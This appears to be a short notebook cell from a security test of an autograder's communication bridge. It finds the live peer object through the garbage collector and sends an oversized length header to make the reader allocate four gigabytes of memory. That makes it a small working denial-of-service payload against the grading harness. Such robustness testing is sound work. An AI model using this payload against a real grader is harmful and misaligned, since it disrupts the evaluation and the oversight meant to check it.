# %% [markdown]
# A message that says it is four gigabytes long: a trusting reader takes the memory for it.

# %% attack="last"
import gc

from autograder.bridge.codec import Writer
from autograder.bridge.peer import Peer, TimeLimit

peer = next(each for each in gc.get_objects() if type(each) is Peer)
peer.channel.send(b"\xff" * 8)
